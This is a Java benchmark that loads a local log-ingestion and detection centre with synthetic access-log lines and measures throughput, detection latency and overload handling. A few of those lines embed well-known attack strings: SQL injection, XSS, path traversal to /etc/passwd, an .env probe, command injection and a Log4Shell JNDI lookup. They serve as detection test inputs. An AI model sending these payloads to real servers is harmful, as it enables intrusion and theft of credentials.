package dev.vedette.app;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.BufferedInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.WebSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.LongAdder;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;

/// Confined to the main thread. `bench/ingest`: how many events a second a centre with all shipped
/// rules takes and makes durable, what each costs, how soon a detection is on the WebSocket, and
/// what becomes of events above that.
///
/// The load comes from this process on the same machine, so its share of the processors is missing
/// to the centre; the processor time of both is printed beside the rate.
final class IngestBench {
  private static final int CONNECTIONS = 8;
  private static final int OVERLOAD_CONNECTIONS = 64;
  private static final int BATCHES = 96;
  private static final int WARM_UP_SECONDS = 8;
  private static final long SEED = 20_261_121;
  private static final Pattern MARK = Pattern.compile("mark=m([0-9]+)m");
  private static final DateTimeFormatter CLF =
      DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss +0000", Locale.ROOT)
          .withZone(ZoneOffset.UTC);

  /// Which lines.
  enum Data {
    /// Few addresses, pages and browsers, again and again.
    REPEATING,
    /// Addresses, paths, sizes and tokens that hardly come twice.
    LOW_REPETITION
  }

  private record Body(byte[] bytes, int lines) {}

  /// Confined to one thread. A connection that does no more than a shipper must: writes ready
  /// bytes, reads the answer. A client library costs as much as half of the centre's matching, on
  /// the same processors.
  private static final class Line implements AutoCloseable {
    private final Centre centre;
    private final String head;
    private Socket socket = new Socket();
    private InputStream in = InputStream.nullInputStream();
    private OutputStream out = OutputStream.nullOutputStream();

    Line(Centre centre, String source) throws IOException {
      this.centre = centre;
      head =
          "POST /api/ingest?format=nginx/access.log&source="
              + source
              + " HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer "
              + centre.calls.token()
              + "\r\nContent-Length: ";
      connect();
    }

    void connect() throws IOException {
      socket.close();
      socket = new Socket(InetAddress.getLoopbackAddress(), centre.calls.port());
      socket.setTcpNoDelay(true);
      in = new BufferedInputStream(socket.getInputStream());
      out = socket.getOutputStream();
    }

    /// The body of the answer, whatever its status.
    String post(Body body) throws IOException {
      out.write((head + body.bytes.length + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
      out.write(body.bytes);
      long length = -1;
      for (String header = header(); !header.isEmpty(); header = header()) {
        if (header.regionMatches(true, 0, "content-length:", 0, 15)) {
          length = Long.parseLong(header.substring(15).strip());
        }
      }
      if (length < 0) {
        throw new IOException("an answer without a length");
      }
      return new String(in.readNBytes((int) length), StandardCharsets.UTF_8);
    }

    private String header() throws IOException {
      var text = new StringBuilder();
      for (int c = in.read(); c != '\n'; c = in.read()) {
        if (c < 0) {
          throw new EOFException("no answer");
        }
        if (c != '\r') {
          text.append((char) c);
        }
      }
      return text.toString();
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }

  /// What became of what was sent.
  private static final class Tally {
    final LongAdder sent = new LongAdder();
    final LongAdder accepted = new LongAdder();
    final LongAdder refused = new LongAdder();
    final LongAdder unknown = new LongAdder();

    void count(Body body, String answer) {
      sent.add(body.lines);
      long durable = 0;
      for (var part : Caller.json(answer).path("receipts")) {
        durable += part.path("count").asLong();
      }
      accepted.add(durable);
      refused.add(body.lines - durable);
    }
  }

  private final Path folder;
  private final int seconds;

  private IngestBench(Path folder, int seconds) {
    this.folder = folder;
    this.seconds = seconds;
  }

  static void main(String[] args) throws IOException, InterruptedException, ExecutionException {
    var bench = new IngestBench(Path.of(args[0]), Integer.parseInt(args[1]));
    System.out.printf(
        Locale.ROOT,
        "%d processors, Java %s, %d connections, batches of 1,000-5,000 access-log lines, 1%%"
            + " attacks, all shipped rules%n",
        Runtime.getRuntime().availableProcessors(),
        Runtime.version(),
        CONNECTIONS);
    for (var data : Data.values()) {
      double rate = bench.sustained(data);
      if (data == Data.LOW_REPETITION) {
        bench.latency(rate / 2);
        bench.overload();
      }
    }
  }

  // ---- how many
  // -----------------------------------------------------------------------------------------------------

  private double sustained(Data data) throws IOException, InterruptedException, ExecutionException {
    var bodies = bodies(data, 0.01);
    var at = folder.resolve("sustained-" + data);
    try (var centre = Centre.measured(at);
        var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      centre.start();
      load(centre, threads, bodies, CONNECTIONS, WARM_UP_SECONDS);
      var cpuBefore = cpu(centre.process().toHandle());
      var ownBefore = cpu(ProcessHandle.current());
      long began = System.nanoTime();
      var tally = load(centre, threads, bodies, CONNECTIONS, seconds);
      double took = (System.nanoTime() - began) / 1e9;
      double cpu = cpu(centre.process().toHandle()).minus(cpuBefore).toMillis() / 1e3;
      double own = cpu(ProcessHandle.current()).minus(ownBefore).toMillis() / 1e3;
      double rate = tally.accepted.sum() / took;
      long rss = rssMaxBytes(centre);
      settle(at);
      centre.stop();
      var verified = Centre.run("verify", "--json", "--data", at.toString());
      long ledger = Caller.json(verified.out()).path("accepted").asLong();
      System.out.printf(
          Locale.ROOT,
          "%-15s %,9.0f events/s for %.0f s (%,d accepted, %,d refused); %.1f CPU seconds = %,.0f"
              + " events per CPU second, beside %.1f of the load; RSS max %d MiB; %.1f bytes per"
              + " event on disk (%,d events); ledger %s%n",
          data.name().toLowerCase(Locale.ROOT).replace('_', '-'),
          rate,
          took,
          tally.accepted.sum(),
          tally.refused.sum(),
          cpu,
          tally.accepted.sum() / cpu,
          own,
          rss >> 20,
          (double) bytes(at) / ledger,
          ledger,
          verified.code() == 0 ? "sound" : "NOT SOUND");
      return rate;
    }
  }

  /// Sends as fast as answers come, on so many connections.
  private static Tally load(
      Centre centre, ExecutorService threads, List<Body> bodies, int connections, int seconds)
      throws InterruptedException, ExecutionException {
    var tally = new Tally();
    var next = new AtomicInteger();
    long until = System.nanoTime() + seconds * 1_000_000_000L;
    var running = new ArrayList<Future<Void>>();
    for (int i = 0; i < connections; i++) {
      running.add(
          threads.submit(() -> {
            try (var line = new Line(centre, "ingest")) {
              while (System.nanoTime() < until) {
                post(line, bodies.get(next.getAndIncrement() % bodies.size()), tally);
              }
            }
            return null;
          }));
    }
    for (var one : running) {
      one.get();
    }
    return tally;
  }

  private static void post(Line line, Body body, Tally tally) throws IOException {
    String answer;
    try {
      answer = line.post(body);
    } catch (IOException _) {
      tally.sent.add(body.lines);
      tally.unknown.add(body.lines);
      line.connect();
      return;
    }
    tally.count(body, answer);
  }

  // ---- how soon
  // -----------------------------------------------------------------------------------------------------

  /// Clean lines at a steady rate, and five times a second an attack on a connection of its own.
  private void latency(double eventsPerSecond)
      throws IOException, InterruptedException, ExecutionException {
    var bodies = bodies(Data.LOW_REPETITION, 0);
    try (var centre = Centre.measured(folder.resolve("latency"));
        var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      centre.start();
      load(centre, threads, bodies, CONNECTIONS, WARM_UP_SECONDS);
      Map<Long, Long> sentNs = new ConcurrentHashMap<>();
      var tookMs = new ConcurrentLinkedQueue<Double>();
      var socket =
          centre
              .calls
              .http
              .newWebSocketBuilder()
              .header("Authorization", "Bearer " + centre.calls.admin())
              .buildAsync(
                  URI.create("ws://127.0.0.1:" + centre.calls.port() + "/ws"),
                  new Watcher(message -> seen(message, sentNs, tookMs)))
              .join();
      var tally = new Tally();
      var next = new AtomicInteger();
      long began = System.nanoTime();
      long until = began + seconds * 1_000_000_000L;
      var running = new ArrayList<Future<Void>>();
      for (int i = 0; i < CONNECTIONS; i++) {
        running.add(
            threads.submit(() -> pace(centre, bodies, next, tally, began, until, eventsPerSecond)));
      }
      long marks = 0;
      var marked = new Tally();
      try (var line = new Line(centre, "marked")) {
        while (System.nanoTime() < until) {
          sentNs.put(marks, System.nanoTime());
          post(line, attack(marks), marked);
          marks++;
          Thread.sleep(200);
        }
      }
      for (var one : running) {
        one.get();
      }
      Thread.sleep(2_000);
      double[] sorted = tookMs.stream().mapToDouble(Double::doubleValue).sorted().toArray();
      System.out.printf(
          Locale.ROOT,
          "latency         at %,.0f events/s (asked: %,.0f): send to WebSocket p50 %.0f ms, p99"
              + " %.0f ms, worst %.0f ms (%d of %d attacks seen)%n",
          tally.accepted.sum() / ((until - began) / 1e9),
          eventsPerSecond,
          sorted[sorted.length / 2],
          sorted[Math.min(sorted.length - 1, sorted.length * 99 / 100)],
          sorted[sorted.length - 1],
          sorted.length,
          marks);
      socket.abort();
      centre.stop();
    }
  }

  private static @Nullable Void pace(
      Centre centre,
      List<Body> bodies,
      AtomicInteger next,
      Tally tally,
      long began,
      long until,
      double eventsPerSecond)
      throws IOException, InterruptedException {
    try (var line = new Line(centre, "ingest")) {
      while (System.nanoTime() < until) {
        double due = (System.nanoTime() - began) / 1e9 * eventsPerSecond;
        if (tally.sent.sum() > due) {
          Thread.sleep(5);
        } else {
          post(line, bodies.get(next.getAndIncrement() % bodies.size()), tally);
        }
      }
    }
    return null;
  }

  private static Body attack(long mark) {
    String line =
        "203.0.113."
            + mark % 250
            + " - - ["
            + CLF.format(Instant.now())
            + "] \"GET /item?mark=m"
            + mark
            + "m&id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users-- HTTP/1.1\" 200 512 \"-\""
            + " \"Mozilla/5.0\"\n";
    return new Body(line.getBytes(StandardCharsets.UTF_8), 1);
  }

  private static void seen(
      JsonNode message, Map<Long, Long> sentNs, ConcurrentLinkedQueue<Double> tookMs) {
    long now = System.nanoTime();
    if (!message.path("type").asText().equals("detections")) {
      return;
    }
    for (var detection : message.path("data").path("detections")) {
      var matcher = MARK.matcher(detection.path("original").asText());
      var sent = matcher.find() ? sentNs.remove(Long.valueOf(matcher.group(1))) : null;
      if (sent != null) {
        tookMs.add((now - sent) / 1e6);
      }
    }
  }

  private record Watcher(java.util.function.Consumer<JsonNode> sink, StringBuilder text)
      implements WebSocket.Listener {
    Watcher(java.util.function.Consumer<JsonNode> sink) {
      this(sink, new StringBuilder());
    }

    @Override
    public @Nullable CompletionStage<?> onText(WebSocket socket, CharSequence part, boolean last) {
      text.append(part);
      if (last) {
        sink.accept(Caller.json(text.toString()));
        text.setLength(0);
      }
      socket.request(1);
      return null;
    }
  }

  // ---- too many
  // -----------------------------------------------------------------------------------------------------

  /// Eight times the connections, none of which waits when it is told to; beside them a source that
  /// sends ten lines five times a second.
  private void overload() throws IOException, InterruptedException, ExecutionException {
    var bodies = bodies(Data.LOW_REPETITION, 0.01);
    var at = folder.resolve("overload");
    try (var centre = Centre.measured(at);
        var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      centre.start();
      var quiet = new Tally();
      long until = System.nanoTime() + seconds * 1_000_000_000L;
      var quietly =
          threads.submit(() -> {
            try (var line = new Line(centre, "quiet")) {
              while (System.nanoTime() < until) {
                post(line, quietBody(), quiet);
                Thread.sleep(200);
              }
            }
            return null;
          });
      var tally = load(centre, threads, bodies, OVERLOAD_CONNECTIONS, seconds);
      quietly.get();
      long rss = rssMaxBytes(centre);
      centre.stop();
      var verified = Centre.run("verify", "--json", "--data", at.toString());
      long ledger = Caller.json(verified.out()).path("accepted").asLong();
      long sent = tally.sent.sum() + quiet.sent.sum();
      long accepted = tally.accepted.sum() + quiet.accepted.sum();
      long refused = tally.refused.sum() + quiet.refused.sum();
      System.out.printf(
          Locale.ROOT,
          "overload        %d connections: sent %,d = accepted %,d + refused %,d%s; in the ledger"
              + " %,d (%s); quiet source kept %.1f %%; RSS max %d MiB%n",
          OVERLOAD_CONNECTIONS,
          sent,
          accepted,
          refused,
          tally.unknown.sum() == 0 ? "" : " + unanswered " + tally.unknown.sum(),
          ledger,
          verified.code() == 0 ? "sound" : "NOT SOUND",
          100.0 * quiet.accepted.sum() / quiet.sent.sum(),
          rss >> 20);
    }
  }

  private static Body quietBody() {
    String line =
        "192.0.2.7 - - ["
            + CLF.format(Instant.now())
            + "] \"GET /quiet HTTP/1.1\" 200 5 \"-\" \"-\"\n";
    return new Body(line.repeat(10).getBytes(StandardCharsets.UTF_8), 10);
  }

  // ---- lines
  // --------------------------------------------------------------------------------------------------------

  private static List<Body> bodies(Data data, double attacks) {
    var random = new SplittableRandom(SEED);
    var bodies = new ArrayList<Body>();
    var at = Instant.now().minusSeconds(BATCHES);
    for (int i = 0; i < BATCHES; i++) {
      int lines = 1_000 + random.nextInt(4_001);
      var text = new StringBuilder(lines * 200);
      String time = CLF.format(at.plusSeconds(i));
      for (int line = 0; line < lines; line++) {
        line(data, attacks, random, time, text);
      }
      bodies.add(new Body(text.toString().getBytes(StandardCharsets.UTF_8), lines));
    }
    return bodies;
  }

  private static final List<String> PAGES =
      List.of("/", "/products", "/cart", "/about", "/api/v1/items", "/static/app.js", "/login");
  private static final List<String> ATTACKS =
      List.of(
          "/item?id=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--",
          "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
          "/cgi-bin/../../../../etc/passwd",
          "/.env",
          "/ping?host=1.1.1.1;cat%20/etc/passwd",
          "/?x=$%7Bjndi:ldap://198.51.100.1/a%7D");
  private static final List<String> AGENTS =
      List.of(
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
              + " Chrome/142.0.0.0 Safari/537.36",
          "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
              + " Gecko) Version/19.1 Mobile/15E148 Safari/604.1");

  private static void line(
      Data data, double attacks, SplittableRandom random, String time, StringBuilder out) {
    boolean low = data == Data.LOW_REPETITION;
    if (low) {
      out.append(10 + random.nextInt(180)).append('.').append(random.nextInt(256)).append('.');
      out.append(random.nextInt(256)).append('.').append(random.nextInt(256));
    } else {
      out.append("198.18.").append(random.nextInt(4)).append('.').append(random.nextInt(250));
    }
    out.append(" - - [").append(time).append("] \"GET ");
    if (random.nextDouble() < attacks) {
      out.append(ATTACKS.get(random.nextInt(ATTACKS.size())));
    } else if (low) {
      out.append("/item/").append(Long.toString(random.nextLong() >>> 20, 36));
      out.append("?session=").append(Long.toHexString(random.nextLong()));
    } else {
      out.append(PAGES.get(random.nextInt(PAGES.size())));
    }
    out.append(" HTTP/1.1\" 200 ").append(low ? random.nextInt(100_000) : 512);
    out.append(" \"https://shop.example/")
        .append(low ? Integer.toString(random.nextInt(1 << 20), 36) : "");
    out.append("\" \"").append(AGENTS.get(random.nextInt(AGENTS.size()))).append("\"\n");
  }

  // ---- what it costs
  // ------------------------------------------------------------------------------------------------

  private static Duration cpu(ProcessHandle process) {
    return process.info().totalCpuDuration().orElse(Duration.ZERO);
  }

  /// As Linux counts it; 0 elsewhere.
  private static long rssMaxBytes(Centre centre) throws IOException {
    var status = Path.of("/proc", Long.toString(centre.process().pid()), "status");
    if (!Files.exists(status)) {
      return 0;
    }
    for (var line : Files.readAllLines(status)) {
      if (line.startsWith("VmHWM:")) {
        return Long.parseLong(line.replaceAll("[^0-9]", "")) << 10;
      }
    }
    return 0;
  }

  /// Waits until housekeeping has nothing more to merge: the file stays as it is.
  private static void settle(Path data) throws IOException, InterruptedException {
    long before = -1;
    int same = 0;
    for (int i = 0; i < 120 && same < 6; i++) {
      long now = changed(data);
      same = now == before ? same + 1 : 0;
      before = now;
      Thread.sleep(1_000);
    }
  }

  private static long changed(Path data) throws IOException {
    try (Stream<Path> files = Files.list(data)) {
      return Arrays.hashCode(
          files.mapToLong(file -> file.toFile().lastModified() ^ file.toFile().length()).toArray());
    }
  }

  private static long bytes(Path data) throws IOException {
    try (Stream<Path> files = Files.list(data)) {
      return files.mapToLong(file -> file.toFile().length()).sum();
    }
  }
}
